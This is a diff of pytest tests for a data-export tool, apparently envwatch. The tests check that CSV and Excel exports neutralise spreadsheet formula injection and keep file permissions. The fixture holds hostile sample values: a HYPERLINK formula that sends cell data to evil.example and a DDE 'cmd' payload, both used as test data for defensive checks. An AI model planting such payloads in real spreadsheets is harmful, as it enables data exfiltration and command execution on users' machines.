@@ -4,6 +4,7 @@ year and parameter, read back with DuckDB), round-tripped against the Python API
 from __future__ import annotations
 
 import json
+import os
 import sqlite3
 from pathlib import Path
 
@@ -12,7 +13,7 @@ import openpyxl
 import pandas as pd
 import pytest
 from click.testing import CliRunner, Result
-from demo import Demo, demo_store
+from demo import Demo, demo_copy, demo_store
 
 import envwatch
 from envwatch import export as export_module
@@ -168,3 +169,108 @@ def test_format_from_the_suffix_and_unknown_tables(demo: Demo, tmp_path: Path) -
     assert no_suffix.exit_code == 2 and "--format" in no_suffix.output
     unknown = _export(demo, "--table", "air", "--out", str(tmp_path / "a.csv"))
     assert unknown.exit_code == 2 and "air_hourly" in unknown.output
+
+
+# -- hostile text and file permissions (issue 15, items 9 and 10) -------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Demo:
+    """A copy of the demo store whose station names came from a hostile staff sheet."""
+    copy = demo_copy(tmp_path_factory, tmp_path_factory.mktemp("hostile"))
+    names = {
+        "1236A": HOSTILE,
+        "1235A": "+1+cmd|' /C calc'!A0",
+        "1234A": "-2+3",
+        "1237A": "@SUM(1,2)",
+        "1239A": "\tHYPERLINK",
+        "1240A": "-3.5",  # a plain number: left alone
+    }
+    with sqlite3.connect(copy.db) as conn:
+        conn.executemany(
+            "UPDATE sites SET name = ? WHERE site_id = ?", [(v, k) for k, v in names.items()]
+        )
+    return copy
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(
+    hostile: Demo, tmp_path: Path
+) -> None:
+    out = tmp_path / "days.csv"
+    export(hostile.db, "air_daily", out)
+    back = pd.read_csv(out, encoding="utf-8-sig", dtype={"site_name": str})
+    names = dict(zip(back["site_id"], back["site_name"], strict=False))
+    assert names["1236A"] == "'" + HOSTILE
+    assert names["1235A"] == "'+1+cmd|' /C calc'!A0"
+    assert names["1234A"] == "'-2+3"
+    assert names["1237A"] == "'@SUM(1,2)"
+    assert names["1239A"] == "'\tHYPERLINK"
+    assert names["1240A"] == "-3.5"
+    assert "龙赛医院" not in names.values()
+    # numbers stay numbers, negative ones too
+    assert back["pm25"].dtype == "float64" and back["aqi"].notna().any()
+    for line in out.read_text(encoding="utf-8-sig").splitlines()[1:]:
+        for cell in line.split(","):
+            assert not cell.lstrip('"').startswith(("=", "+", "@", "\t")), line
+
+
+def test_query_csv_is_neutralised_too(hostile: Demo) -> None:
+    result = CliRunner().invoke(
+        main,
+        ["--config", str(hostile.config), "--db", str(hostile.db), "query",
+         "select site_id, name, -1.5 as x from sites where site_id = '1236A'", "--format", "csv"],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    row = result.output.splitlines()[1]
+    assert row.startswith("1236A,\"'=HYPERLINK(") and row.endswith(",-1.5")
+
+
+def test_excel_keeps_the_text_but_marks_it_as_text(hostile: Demo, tmp_path: Path) -> None:
+    out = tmp_path / "days.xlsx"
+    export(hostile.db, "air_daily", out, sites=["1236A", "1240A"])
+    ws = openpyxl.load_workbook(out).worksheets[0]
+    cells = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
+    assert cells["1236A"].value == HOSTILE and cells["1236A"].data_type == "s"
+    assert cells["1236A"].quotePrefix
+    assert cells["1240A"].value == "-3.5" and not cells["1240A"].quotePrefix
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)  # no formula
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_export_keeps_the_mode_of_the_file_it_replaces(
+    demo: Demo, tmp_path: Path, fmt: str
+) -> None:
+    shared = tmp_path / f"shared.{fmt}"
+    shared.write_text("old")
+    shared.chmod(0o664)
+    export(demo.db, "runs", shared)
+    assert shared.stat().st_mode & 0o777 == 0o664 and shared.stat().st_size > 3
+    fresh = tmp_path / f"new.{fmt}"
+    old = os.umask(0o022)
+    try:
+        export(demo.db, "runs", fresh)
+    finally:
+        os.umask(old)
+    assert fresh.stat().st_mode & 0o777 == 0o644
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([shared.name, fresh.name])
+
+
+def test_a_parquet_folder_is_not_private(demo: Demo, tmp_path: Path) -> None:
+    out = tmp_path / "runs"
+    old = os.umask(0o022)
+    try:
+        export(demo.db, "runs", out, "parquet")
+    finally:
+        os.umask(old)
+    assert out.stat().st_mode & 0o777 == 0o755
+
+
+def test_an_export_that_cannot_be_written_says_so(demo: Demo, tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match="is a folder"):
+        export(demo.db, "runs", tmp_path, "csv")
+    (tmp_path / "afile").write_text("x")
+    result = _export(demo, "--table", "runs", "--out", str(tmp_path / "afile" / "runs.csv"))
+    assert result.exit_code == 2 and "cannot write the export" in result.output
+    assert "Traceback" not in result.output
